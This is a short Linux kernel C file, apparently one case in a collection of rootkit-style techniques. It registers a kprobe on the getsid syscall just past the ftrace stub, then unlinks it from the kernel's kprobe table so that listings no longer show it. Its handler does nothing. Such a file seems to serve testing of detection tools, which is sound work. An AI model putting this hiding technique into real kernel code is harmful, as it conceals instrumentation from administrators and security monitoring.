// SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause
/* A kprobe that is taken out of the table of kprobes, so that nobody lists it. */
#include "attack.h"

static struct kprobe probe = {.symbol_name = "__x64_sys_getsid"};
static struct hlist_node *next, **back;

static int watch(struct kprobe *kp, struct pt_regs *registers)
{
	return 0;
}

static int attack(void)
{
	int error;

	probe.pre_handler = watch;
	/* Behind the place of ftrace, so that it becomes an int3. */
	probe.offset = 4 + 5;
	error = register_kprobe(&probe);
	if (error)
		return error;
	next = probe.hlist.next;
	back = probe.hlist.pprev;
	*back = next;
	if (next)
		next->pprev = back;
	return 0;
}

static void undo(void)
{
	*back = &probe.hlist;
	if (next)
		next->pprev = &probe.hlist.next;
	unregister_kprobe(&probe);
}

ATTACK("a kprobe that is in no table");
